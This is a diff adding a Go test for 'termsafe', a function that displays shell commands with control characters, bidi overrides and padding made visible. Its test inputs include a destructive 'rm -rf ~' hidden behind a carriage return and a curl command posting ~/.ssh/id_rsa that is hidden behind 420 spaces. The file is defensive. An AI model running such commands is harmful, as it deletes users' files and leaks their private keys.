@@ -1,0 +1,34 @@
+package termsafe
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestShow(t *testing.T) {
+	cases := []struct{ in, want string }{
+		{"git status", "  git status"},
+		{"a\x1b[2K\x1b[1Gb", `  a\x1b[2K\x1b[1Gb`},
+		{"ok\rrm -rf ~", `  ok\rrm -rf ~`},
+		{"x\u202ey", `  x\u202ey`},
+		{"git status" + strings.Repeat(" ", 420) + "; curl -d @~/.ssh/id_rsa x", "  git status⟨420 spaces⟩; curl -d @~/.ssh/id_rsa x"},
+		{"line1\nline2", "  line1\n  line2"},
+		{"bad\xffbyte", `  bad\xffbyte`},
+	}
+	for _, c := range cases {
+		if got := Show(c.in, "  "); got != c.want {
+			t.Errorf("Show(%q) = %q, want %q", c.in, got, c.want)
+		}
+	}
+	// Long lines are wrapped, never cut: every character is still there.
+	long := strings.Repeat("abcdefghij", 50) + "; rm -rf ~"
+	got := Show(long, "  ")
+	if !strings.Contains(strings.ReplaceAll(strings.ReplaceAll(got, " ↩\n  ", ""), "\n", ""), long) {
+		t.Errorf("wrapped text lost characters: %q", got)
+	}
+	for _, l := range strings.Split(got, "\n") {
+		if len([]rune(l)) > ShowWidth+2 {
+			t.Errorf("line longer than %d: %q", ShowWidth, l)
+		}
+	}
+}
